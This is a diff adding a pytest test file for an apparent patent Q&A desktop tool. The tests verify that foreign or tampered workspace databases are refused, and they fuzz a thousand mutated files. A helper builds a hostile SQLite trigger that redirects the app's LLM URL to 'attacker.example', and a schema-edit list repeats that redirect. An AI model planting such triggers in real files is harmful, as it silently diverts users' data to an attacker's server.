@@ -1,0 +1,254 @@
+"""Workspace files from elsewhere: a restored backup, a file copied into the data folder.
+Anything that is not a workspace as our migrations make it is refused in one line, before it
+can run a trigger, leaving every workspace as it was; a restored backup brings its content,
+not the other machine's LLM server or model paths, and its search index is rebuilt here."""
+
+from __future__ import annotations
+
+import hashlib
+import random
+import shutil
+from pathlib import Path
+
+import numpy as np
+import pytest
+import sqlean as sqlite3
+
+from core.desk import Desk
+from core.errors import PatentDeskError, WorkspaceError
+from core.ingest.importer import import_file
+from core.retrieve import Retriever
+from core.store import open_workspace, restore_workspace
+from core.store.failures import is_storage_error
+from core.store.migrations import m001_items_settings_fts
+from tests.conftest import DEMO_DIR, run_cli, workspace_content
+
+SMALL = DEMO_DIR / "patent_attorney_act_qa.csv"  # 10 entries
+
+
+def _sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def _crafted(path: Path) -> Path:
+    """The review's file: only `items` and `settings`, and a trigger that points the LLM at
+    another server whenever a setting changes."""
+    db = sqlite3.connect(str(path))
+    m001_items_settings_fts(db)
+    db.execute("DROP TABLE items_fts")
+    db.execute("DROP TABLE imports")
+    db.execute("INSERT INTO items VALUES (1, '專利年費可以預繳嗎？', '可以。', '', 'k', 'h', '', 0,"
+               " '{}', '2026-01-01', '2026-01-01')")
+    db.execute("CREATE TRIGGER redirect AFTER INSERT ON settings BEGIN INSERT OR REPLACE INTO"
+               " settings VALUES ('llm.url', '\"http://attacker.example/v1\"'); END")
+    db.execute("PRAGMA user_version = 2")
+    db.commit()
+    db.close()
+    return path
+
+
+def _small_workspace(name: str) -> Path:
+    with open_workspace(name) as ws:
+        import_file(ws, SMALL)
+        with ws.transaction():  # vectors as an encoder would leave them (any 4 numbers)
+            ws.reset_vectors(4, "bundled:test")
+            ws.put_vectors(ws.item_ids(), np.random.default_rng(0).random((10, 4)))
+        return ws.path
+
+
+def test_a_crafted_file_is_refused_on_open_and_on_restore(data_home: Path, tmp_path: Path):
+    firm = _small_workspace("firm")
+    before = workspace_content(firm)
+    crafted = _crafted(tmp_path / "crafted.sqlite")
+    placed = data_home / "workspaces" / "crafted.sqlite"
+    shutil.copy(crafted, placed)
+    sha = _sha(placed)
+
+    with pytest.raises(WorkspaceError, match="defines a trigger 'redirect'"):
+        open_workspace("crafted")
+    opened = run_cli("search", "年費", "-w", "crafted", home=data_home)
+    assert opened.returncode == 2
+    assert opened.stderr.strip().splitlines() == [
+        f"error: workspace file {placed} is not one Patent Desk made (it defines a trigger "
+        "'redirect', which Patent Desk never creates); it was not opened, and nothing was "
+        "changed"]
+    assert _sha(placed) == sha
+
+    restored = run_cli("restore", str(crafted), "-w", "firm", home=data_home)
+    assert restored.returncode == 2
+    assert restored.stderr.strip().splitlines() == [
+        f"error: {crafted}: not a Patent Desk backup (it defines a trigger 'redirect', which "
+        "Patent Desk never creates); nothing was changed"]
+    assert workspace_content(firm) == before
+
+
+def test_a_missing_search_index_is_named_not_a_traceback(data_home: Path):
+    path = _small_workspace("firm")
+    db = sqlite3.connect(str(path))
+    db.execute("DROP TABLE items_fts")
+    db.commit()
+    db.close()
+    result = run_cli("search", "專利", "-w", "firm", home=data_home)
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert "'items_fts' is missing" in result.stderr
+
+
+def test_a_restored_backup_keeps_this_machines_llm_settings(data_home: Path, tmp_path: Path,
+                                                            encoder):
+    with Desk("firm", encoder=encoder) as desk:  # the other machine's workspace
+        desk.import_files([SMALL])
+        desk.ws.set_setting("llm.url", "http://10.0.0.9:8080/v1")
+        desk.ws.set_setting("models.llm", "/home/other/models/big.gguf")
+        desk.ws.set_setting("llm.n_threads", 32)
+    backup = tmp_path / "firm-backup.sqlite"
+    assert run_cli("backup", "-w", "firm", "--to", str(backup), home=data_home).returncode == 0
+
+    here = tmp_path / "this-machine"  # a fresh data home: nothing there yet
+    first = run_cli("restore", str(backup), "-w", "fresh", home=here)
+    assert first.returncode == 0, first.stderr
+    assert "this computer's settings were kept" in first.stdout
+    with open_workspace_in(here, "fresh") as ws:
+        assert ws.get_setting("llm.url") is None and ws.get_setting("models.llm") is None
+        assert ws.get_setting("llm.n_threads") is None
+        assert ws.count_items() == 10
+
+    with open_workspace_in(here, "mine") as ws:
+        ws.set_setting("llm.url", "http://localhost:8080/v1")
+        import_file(ws, DEMO_DIR / "utility_model_report_qa.csv")
+    again = run_cli("restore", str(backup), "-w", "mine", home=here)
+    assert again.returncode == 0, again.stderr
+    with open_workspace_in(here, "mine") as ws:
+        assert ws.get_setting("llm.url") == "http://localhost:8080/v1"  # not redirected
+        assert ws.get_setting("models.llm") is None
+        assert ws.count_items() == 10
+        assert ws.vector_dim() is None  # derived data is rebuilt here, not trusted
+        hits = Retriever(ws).search("專利師", mode="lexical")
+        assert hits and hits[0].item.question  # the lexical index was rebuilt from items
+    search = run_cli("search", "專利師", "-w", "mine", home=here)
+    assert search.returncode == 0 and "semantic search: 0% ready" in search.stderr
+
+
+class open_workspace_in:  # noqa: N801 - used like open_workspace, in another data home
+    def __init__(self, home: Path, name: str) -> None:
+        self.home, self.name = home, name
+
+    def __enter__(self):
+        import os
+
+        self.old = os.environ.get("PATENT_DESK_HOME")
+        os.environ["PATENT_DESK_HOME"] = str(self.home)
+        self.ws = open_workspace(self.name)
+        return self.ws
+
+    def __exit__(self, *exc: object) -> None:
+        import os
+
+        self.ws.close()
+        os.environ["PATENT_DESK_HOME"] = self.old or ""
+
+
+SCHEMA_EDITS = [
+    "CREATE TRIGGER t1 AFTER UPDATE ON settings BEGIN SELECT 1; END",
+    "CREATE TRIGGER t2 BEFORE INSERT ON items BEGIN SELECT 1; END",
+    "CREATE VIEW v1 AS SELECT * FROM items",
+    "CREATE TABLE junk (x)",
+    "CREATE INDEX extra ON items(category)",
+    "DROP INDEX queries_item",
+    "DROP TABLE imports",
+    "DROP TABLE items_fts",
+    "DROP TABLE item_vectors",
+    "ALTER TABLE items ADD COLUMN more TEXT",
+    "ALTER TABLE settings RENAME TO settings_old",
+    "DELETE FROM items",
+    "UPDATE items SET question = '改過的問題' || id",
+    "UPDATE settings SET value = 'not json' WHERE key = 'vectors.dim'",
+    "INSERT INTO settings VALUES ('llm.url', '\"http://attacker.example/v1\"')",
+    "PRAGMA user_version = 7",
+    "PRAGMA user_version = 1",
+]
+CONTENT_ONLY = {e for e in SCHEMA_EDITS if e.startswith(("DELETE", "UPDATE", "INSERT"))}
+
+
+def _mutants(base: Path, out: Path, n_flips: int, n_edits: int
+             ) -> list[tuple[Path, bool]]:
+    """(file, whether its schema differs from ours): byte flips, then schema edits."""
+    rng = random.Random(20261203)
+    data = base.read_bytes()
+    files = []
+    for n in range(n_flips):
+        mutated = bytearray(data)
+        for _ in range(rng.randint(1, 8)):
+            at = rng.randrange(len(mutated)) if rng.random() < 0.7 else rng.randrange(100)
+            mutated[at] ^= 1 << rng.randrange(8)
+        path = out / f"flip{n}.sqlite"
+        path.write_bytes(bytes(mutated))
+        files.append((path, False))
+    for n in range(n_edits):
+        path = out / f"edit{n}.sqlite"
+        shutil.copy(base, path)
+        db = sqlite3.connect(str(path))
+        structural = False
+        for edit in rng.sample(SCHEMA_EDITS, rng.randint(1, 3)):
+            try:
+                db.execute(edit)
+            except sqlite3.Error:
+                continue  # the edit needs a table an earlier edit removed
+            structural = structural or edit not in CONTENT_ONLY
+        db.commit()
+        db.close()
+        files.append((path, structural))
+    return files
+
+
+def _one_line_or_fine(action) -> str:  # noqa: ANN001
+    """'ok', or 'refused' for what the CLI and the window turn into one line."""
+    try:
+        action()
+    except PatentDeskError:
+        return "refused"
+    except Exception as exc:
+        if is_storage_error(exc):  # damaged: the CLI's one storage line, never a traceback
+            return "refused"
+        raise
+    return "ok"
+
+
+def test_a_thousand_mutated_workspace_files_never_crash_or_touch_the_open_workspace(
+        data_home: Path, tmp_path: Path):
+    base = _small_workspace("base")
+    open_one = open_workspace("firm")
+    import_file(open_one, DEMO_DIR / "utility_model_report_qa.csv")
+    before = workspace_content(open_one.path)
+    mutants = _mutants(base, tmp_path, n_flips=700, n_edits=300)
+    outcomes = {"ok": 0, "refused": 0}
+    let_through = []
+    for n, (mutant, structural) in enumerate(mutants):
+        name = f"probe{n}"
+
+        def restore(mutant: Path = mutant, name: str = name) -> None:
+            restore_workspace(mutant, name)
+            with open_workspace(name) as ws:
+                Retriever(ws).search("專利師", mode="lexical")
+
+        restored = _one_line_or_fine(restore)
+        outcomes[restored] += 1
+        placed = data_home / "workspaces" / f"{name}.sqlite"
+        shutil.copy(mutant, placed)  # the same file copied into the data folder
+
+        def open_and_search(name: str = name) -> None:
+            with open_workspace(name) as ws:
+                Retriever(ws).search("專利師", mode="lexical")
+                ws.set_setting("touched", 1)  # a write, where a trigger would fire
+
+        opened = _one_line_or_fine(open_and_search)
+        outcomes[opened] += 1
+        if structural and "ok" in (restored, opened):
+            let_through.append(mutant.name)
+        for leftover in (data_home / "workspaces").glob(f"{name}.sqlite*"):
+            leftover.unlink()
+    assert len(mutants) >= 1000
+    assert not let_through  # every file whose schema is not ours was refused, both ways
+    assert outcomes["refused"] > 300 and outcomes["ok"] > 0
+    assert workspace_content(open_one.path) == before
+    assert open_one.get_setting("llm.url") is None
+    open_one.close()
